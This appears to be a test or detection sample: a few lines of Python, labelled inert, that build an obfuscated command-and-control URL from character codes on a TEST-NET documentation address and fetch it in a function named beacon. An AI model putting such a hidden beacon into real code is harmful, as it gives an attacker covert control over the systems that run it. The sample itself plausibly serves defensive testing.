# INERT SAMPLE: never run. TEST-NET address.
import urllib.request
HOST = "".join(chr(c) for c in [104, 116, 116, 112, 58, 47, 47, 49, 57, 50, 46, 48, 46, 50, 46, 52, 53, 58, 56, 48, 56, 48, 47, 99, 50])
def beacon():
    return urllib.request.urlopen(HOST).read()
